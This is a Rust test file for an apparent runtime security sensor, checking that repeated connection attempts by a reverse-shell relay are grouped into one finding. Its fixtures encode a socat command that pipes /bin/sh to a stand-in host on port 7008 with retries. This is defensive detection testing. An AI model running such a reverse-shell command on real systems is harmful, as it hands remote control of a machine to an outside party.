//! A shell whose relay tries to connect until somebody listens: one finding, whatever was seen of the attempts.

use super::{SECOND, sensor};
use crate::Delivery;
use crate::live::Live;
use crate::lookups::Answer;
use crate::watch::Watch;
use cloud::Facts;
use crossbeam_channel::Receiver;
use decoder::{Decoded, decode};
use event::{Event, Exec};
use probe_abi::{
    DescriptorKind, RecordAncestor, RecordDescriptor, RecordExec, RecordHeader, RecordKind, RecordProcess,
    RecordSocket,
};
use std::collections::BTreeMap;
use std::sync::Arc;

const SOCAT: RecordProcess = RecordProcess { pid: 10, start_ns: SECOND };
const SHELL: RecordProcess = RecordProcess { pid: 11, start_ns: SECOND + 1_000 };
/// The kernel's states of a socket.
const ESTABLISHED: u8 = 1;
const SYN_SENT: u8 = 2;

fn header(kind: RecordKind, time_ns: u64, process: RecordProcess) -> RecordHeader {
    RecordHeader { length: 0, kind, time_ns, cgroup: 42, pid: process.pid, cpu: 0 }
}

fn pair(number: u32, inode: u64, peer: u64) -> RecordDescriptor {
    let kind = DescriptorKind::Unix;
    RecordDescriptor { number, kind, access: 3, inode, peer, ..RecordDescriptor::default() }
}

/// One attempt: its socket, its port as far as it has one.
fn attempt(inode: u64, port: u16, state: u8) -> RecordDescriptor {
    RecordDescriptor { state, ..RecordDescriptor::connection(5, inode, port, ([192, 0, 2, 7], 7_008)) }
}

fn socat(kind: RecordKind, held: &[RecordDescriptor]) -> Vec<u8> {
    let descriptors = [&[pair(6, 60, 61)], held].concat();
    RecordExec {
        executable_inode: 10,
        descriptors,
        path: b"socat\0bin\0usr\0".to_vec().into(),
        arguments: b"socat\0EXEC:/bin/sh\0TCP:192.0.2.7:7008,retry=100\0".to_vec().into(),
        ..RecordExec::of(header(kind, SOCAT.start_ns, SOCAT), SOCAT)
    }
    .write()
}

fn shell(kind: RecordKind, held_by_socat: &[RecordDescriptor]) -> Vec<u8> {
    RecordExec {
        executable_inode: 11,
        descriptors: vec![pair(0, 61, 60), pair(1, 61, 60)],
        path: b"dash\0bin\0usr\0".to_vec().into(),
        arguments: b"/bin/sh\0".to_vec().into(),
        ancestors: vec![RecordAncestor {
            pid: SOCAT.pid,
            start_ns: SOCAT.start_ns,
            ..RecordAncestor::default()
        }],
        parent_descriptors: [&[pair(6, 60, 61)], held_by_socat].concat(),
        ..RecordExec::of(header(kind, SHELL.start_ns, SHELL), SHELL)
    }
    .write()
}

struct World {
    watch: Watch,
    deliveries: Receiver<Delivery>,
    now: u64,
    /// Port of this side, as last delivered, by the finding's name.
    ports: BTreeMap<String, i32>,
}

impl World {
    fn new() -> Self {
        let (watch, deliveries) = sensor(&Facts::default(), false);
        Self { watch, deliveries, now: 2 * SECOND, ports: BTreeMap::new() }
    }

    fn passes(&mut self) {
        self.now += SECOND;
        self.watch.tick(self.now);
        for delivery in self.deliveries.try_iter() {
            let finding = delivery.finding.finding;
            self.ports.insert(finding.name, finding.connections[0].source_port);
        }
    }

    fn executed(&mut self) {
        self.watch.record(&socat(RecordKind::Exec, &[]), self.now);
        self.watch.record(&shell(RecordKind::Exec, &[]), self.now);
        self.passes();
    }

    /// The probe sees that socat's socket changes.
    fn tries(&mut self, socket: RecordDescriptor) {
        let header = header(RecordKind::Socket, self.now, SOCAT);
        self.watch.record(&RecordSocket { header, process: SOCAT, socket }.write(), self.now);
        self.passes();
    }

    /// Live state is read while socat holds this.
    fn reads(&mut self, held: &[RecordDescriptor]) {
        let processes = [socat(RecordKind::Task, held), shell(RecordKind::Task, held)];
        let processes: Vec<Arc<Exec>> = processes.iter().map(|record| task(record)).collect();
        self.watch.answer(Answer::Live(Live { processes, at_ns: self.now }), self.now);
        self.passes();
    }
}

fn task(record: &[u8]) -> Arc<Exec> {
    match decode(record) {
        Ok(Decoded::Task(exec)) => Arc::from(exec),
        Ok(Decoded::Event(Event::Exec(exec))) => exec,
        other => panic!("no process: {other:?}"),
    }
}

#[test]
fn attempts_that_are_seen_with_and_without_a_port_are_one_session() {
    let mut world = World::new();
    world.executed();
    world.tries(attempt(51, 0, SYN_SENT));
    assert_eq!(world.ports.len(), 1, "found before it is connected");
    // live state may catch an attempt that has got its port and will be refused
    world.reads(&[attempt(52, 40_002, SYN_SENT)]);
    world.tries(attempt(53, 0, SYN_SENT));
    world.reads(&[]);
    world.reads(&[attempt(54, 40_004, ESTABLISHED)]);
    assert_eq!(world.ports.values().collect::<Vec<_>>(), [&40_004]);
}

#[test]
fn what_live_state_finds_first_is_one_session_with_what_the_probes_see() {
    let mut world = World::new();
    world.reads(&[attempt(51, 40_001, SYN_SENT)]);
    assert_eq!(world.ports.len(), 1, "found before it is connected");
    world.executed();
    world.tries(attempt(52, 0, SYN_SENT));
    world.reads(&[]);
    world.tries(attempt(53, 40_003, ESTABLISHED));
    assert_eq!(world.ports.values().collect::<Vec<_>>(), [&40_003]);
}
